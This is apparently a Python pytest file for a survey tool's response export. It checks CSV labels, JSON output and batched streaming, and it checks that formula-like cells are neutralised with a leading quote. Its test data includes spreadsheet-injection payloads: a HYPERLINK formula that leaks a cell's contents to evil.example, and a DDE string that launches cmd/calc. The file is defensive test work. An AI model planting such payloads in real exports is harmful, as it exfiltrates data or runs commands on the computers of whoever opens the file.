"""Exports: labels in the header, formula-looking text stays inert text, JSON, streaming."""

from __future__ import annotations

import csv
import io
import random

import msgspec
import pytest

from surveyor.demo.metrics import ensure_pulse_survey
from surveyor.metrics.export import neutralise
from tests.conftest import api_key, app_services, in_app
from tests.metrics.helpers import insert_rows, random_rows

DANGEROUS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "+SUM(1,2)",
    "-2+3",
    "@cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize(
    ("cell", "expected"),
    [
        ("=1+1", "'=1+1"),
        ("+1", "'+1"),
        ("-1", "'-1"),
        ("@x", "'@x"),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        ("fine", "fine"),
        ("a=b", "a=b"),
        (7, 7),
        (None, None),
    ],
)
def test_neutralise_prefixes_formula_starts_with_a_quote(cell, expected):
    assert neutralise(cell) == expected


async def _seed(db):
    survey_id, version_id = await ensure_pulse_survey(db)
    rows = random_rows(random.Random(9), len(DANGEROUS) + 4)
    for row in rows:
        row["survey_id"] = survey_id
    await insert_rows(db, rows, version_id=version_id)
    answers = [
        (row["id"], "reason", msgspec.json.encode(text).decode(), "x")
        for row, text in zip(rows, [*DANGEROUS, "plain words"], strict=False)
    ]
    answers.append((rows[-1]["id"], "recommend", "9", "x"))
    await db.write(
        lambda tx: tx.execute_many(
            "INSERT INTO answers (response_id, question_id, value, updated_at) VALUES (?, ?, ?, ?)",
            answers,
        )
    )
    return survey_id, rows


async def test_csv_export_has_labels_and_formulas_survive_as_inert_text(client):
    db = app_services(client).db
    survey_id, rows = await in_app(client, _seed, db)
    headers = await api_key(client, "read")
    answer = await client.get(
        "/api/v1/responses/export", params={"format": "csv", "survey": survey_id}, headers=headers
    )
    assert answer.status_code == 200, answer.text
    assert answer.headers["content-type"].startswith("text/csv")
    assert answer.headers["content-type"].count("charset") == 1
    assert "attachment" in answer.headers["content-disposition"]
    text = answer.content.decode("utf-8-sig")
    table = list(csv.reader(io.StringIO(text, newline="")))
    header = table[0]
    assert "What is the main reason for your score? [reason]" in header
    assert (
        "How likely is it that you would recommend us to a friend or colleague? [recommend]"
        in header
    )
    assert len(table) == len(rows) + 1
    column = header.index("What is the main reason for your score? [reason]")
    cells = {row[column] for row in table[1:]}
    # Each dangerous text comes back whole, behind a quote a spreadsheet shows as text.
    for dangerous in DANGEROUS:
        assert "'" + dangerous in cells
    assert "plain words" in cells
    for row in table[1:]:
        assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in row)


async def test_json_export_carries_labelled_answers(client):
    db = app_services(client).db
    survey_id, rows = await in_app(client, _seed, db)
    headers = await api_key(client, "read")
    answer = await client.get(
        "/api/v1/responses/export", params={"format": "json", "survey": survey_id}, headers=headers
    )
    assert answer.status_code == 200, answer.text
    items = answer.json()
    assert len(items) == len(rows)
    by_id = {item["response_id"]: item for item in items}
    last = by_id[rows[-1]["id"]]
    assert any(
        a["question_id"] == "recommend" and a["value"] == 9 and "recommend" in a["label"]
        for a in last["answers"]
    )
    # JSON is data, not a spreadsheet: text is exported exactly as given.
    assert by_id[rows[0]["id"]]["answers"][0]["value"] == DANGEROUS[0]


async def test_export_rejects_an_unknown_format_naming_the_field(client):
    headers = await api_key(client, "read")
    answer = await client.get(
        "/api/v1/responses/export", params={"format": "xlsx"}, headers=headers
    )
    assert answer.status_code == 400
    assert answer.json()["errors"][0]["field"] == "format"


async def test_export_streams_in_batches_larger_than_one(db, monkeypatch):
    """More responses than one batch: every response once, in completion order."""
    from surveyor.metrics import export
    from surveyor.metrics.filters import parse_scope

    monkeypatch.setattr(export, "BATCH", 7)
    rows = random_rows(random.Random(4), 50)
    await insert_rows(db, rows)
    await db.write(
        lambda tx: tx.execute_many(
            "INSERT INTO answers (response_id, question_id, value, updated_at) VALUES (?, ?, ?, ?)",
            [(r["id"], q, '"x"', "x") for r in rows for q in ("a", "b")],
        )
    )
    chunks = [c async for c in export.export_csv(db, parse_scope(default_days=None, max_days=None))]
    assert len(chunks) > 3
    table = list(csv.reader(io.StringIO(b"".join(chunks).decode("utf-8-sig"), newline="")))
    ids = [row[0] for row in table[1:]]
    assert sorted(ids) == sorted(r["id"] for r in rows) and len(ids) == len(set(ids))
    completed = [row[9] for row in table[1:]]
    assert completed == sorted(completed)
